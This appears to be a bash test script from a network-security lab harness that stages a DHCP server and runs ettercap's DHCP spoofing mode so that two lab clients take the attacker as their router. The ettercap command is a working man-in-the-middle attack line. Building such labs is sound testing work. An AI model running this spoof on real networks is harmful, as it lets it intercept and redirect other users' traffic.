#!/usr/bin/env bash
# SPDX-License-Identifier: Apache-2.0
#
# ettercap answers DHCP clients faster than the server, with itself as the router.
set -u
# shellcheck source-path=SCRIPTDIR source=site.sh
. "$(dirname "$0")/site.sh"

life() {
	site_web gate 198.51.100.80
	site_life k1 http://198.51.100.80/file l1 http://198.51.100.80/file
}

client() {
	lab_in "$1" timeout 6 busybox udhcpc -i eth0 -f -n -q -t 3 -T 1 -s /bin/true >/dev/null 2>&1
}

server() {
	lab_start gate "$LAB_DIR/dhcp.log" dnsmasq -k -C /dev/null --pid-file= -p 0 -i eth0 \
		--dhcp-leasefile="$LAB_DIR/leases.gate" --dhcp-range=172.23.43.100,172.23.43.190 \
		--dhcp-host=00:16:3e:5a:20:01,172.23.43.21
	sleep 0.5
}

attack() {
	life
	server
	lab_start m1 "$LAB_DIR/tool.log" ettercap -T -q -z -i eth0 \
		-M dhcp:172.23.43.50-60/255.255.252.0/172.23.42.200
	sleep 3
	client k1
	client l1
	site_await 8 spoof.dhcp
}

site_run ettercap_dhcp harbor span ettercap busybox arping dnsmasq
